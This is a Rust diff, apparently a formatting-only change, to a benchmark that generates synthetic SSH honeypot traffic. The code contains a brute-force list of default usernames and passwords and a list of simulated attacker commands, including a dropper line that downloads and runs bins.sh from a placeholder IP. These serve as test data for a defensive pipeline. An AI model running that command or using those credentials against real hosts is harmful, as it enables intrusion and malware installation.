@@ -95,10 +95,7 @@ pub fn peak_rss_mb() -> f64 {
 
 async fn pipeline(config: &Config, args: &PipelineArgs) -> anyhow::Result<PipelineResult> {
     let tempdir = tempdir_for_bench()?;
-    let db = args
-        .db
-        .clone()
-        .unwrap_or_else(|| tempdir.join("bench.db"));
+    let db = args.db.clone().unwrap_or_else(|| tempdir.join("bench.db"));
     for suffix in ["", "-wal", "-shm"] {
         let mut path = db.clone().into_os_string();
         path.push(suffix);
@@ -106,7 +103,9 @@ async fn pipeline(config: &Config, args: &PipelineArgs) -> anyhow::Result<Pipeli
     }
     let mut options = config.sqlite_options();
     options.path = db.clone();
-    let store = SqliteStore::open(options).await.context("cannot create the bench database")?;
+    let store = SqliteStore::open(options)
+        .await
+        .context("cannot create the bench database")?;
     let mut pipeline_config = config.pipeline_config();
     pipeline_config.dead_letter_path = tempdir.join("dead-letters.jsonl");
     let batch = pipeline_config.batch;
@@ -239,8 +238,23 @@ fn unreachable_histogram() -> Histogram<u64> {
     Histogram::<u64>::new(1).unwrap_or_else(|_| std::process::abort())
 }
 
-const USERNAMES: &[&str] = &["root", "admin", "ubuntu", "user", "test", "oracle", "pi", "postgres", "git", "support"];
-const PASSWORDS: &[&str] = &["123456", "admin", "password", "root", "1234", "12345678", "qwerty", "toor", "raspberry", "P@ssw0rd", "111111", "admin123"];
+const USERNAMES: &[&str] = &[
+    "root", "admin", "ubuntu", "user", "test", "oracle", "pi", "postgres", "git", "support",
+];
+const PASSWORDS: &[&str] = &[
+    "123456",
+    "admin",
+    "password",
+    "root",
+    "1234",
+    "12345678",
+    "qwerty",
+    "toor",
+    "raspberry",
+    "P@ssw0rd",
+    "111111",
+    "admin123",
+];
 const COMMANDS: &[&str] = &[
     "uname -a",
     "cat /proc/cpuinfo | grep name | wc -l",
@@ -257,7 +271,13 @@ const COMMANDS: &[&str] = &[
     "echo -e \"\\x61\\x75\\x74\\x68\"",
     "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
 ];
-const CLIENTS: &[&str] = &["SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5", "SSH-2.0-paramiko_3.4.0", "SSH-2.0-PUTTY"];
+const CLIENTS: &[&str] = &[
+    "SSH-2.0-Go",
+    "SSH-2.0-libssh2_1.10.0",
+    "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5",
+    "SSH-2.0-paramiko_3.4.0",
+    "SSH-2.0-PUTTY",
+];
 
 /// Synthetic honeypot traffic with the shape of the real thing: sessions from a pool of
 /// recurring attacker addresses, a handshake, a run of login attempts, and for the
@@ -319,7 +339,8 @@ impl Traffic {
         };
         self.queue.push_back(make(EventKind::SessionStarted));
         let client = self.pick(CLIENTS).to_owned();
-        self.queue.push_back(make(EventKind::ClientVersion { version: client }));
+        self.queue
+            .push_back(make(EventKind::ClientVersion { version: client }));
         let attempts = 1 + self.rng.usize(..6);
         let success = self.rng.u8(..100) < 30;
         for attempt in 0..attempts {
@@ -337,12 +358,16 @@ impl Traffic {
         if success {
             for _ in 0..self.rng.usize(1..8) {
                 let command = self.pick(COMMANDS).to_owned();
-                self.queue.push_back(make(EventKind::CommandInput { command }));
+                self.queue
+                    .push_back(make(EventKind::CommandInput { command }));
             }
             if self.rng.u8(..100) < 20 {
                 let sample = self.rng.u8(..50);
                 let digest = Sha256::digest([sample]);
-                let sha256 = digest.iter().map(|b| format!("{b:02x}")).collect::<String>();
+                let sha256 = digest
+                    .iter()
+                    .map(|b| format!("{b:02x}"))
+                    .collect::<String>();
                 self.queue.push_back(make(EventKind::FileDownload {
                     url: format!("http://203.0.113.{}/bins/x86_{sample}", sample % 20 + 1),
                     sha256: Some(sha256),
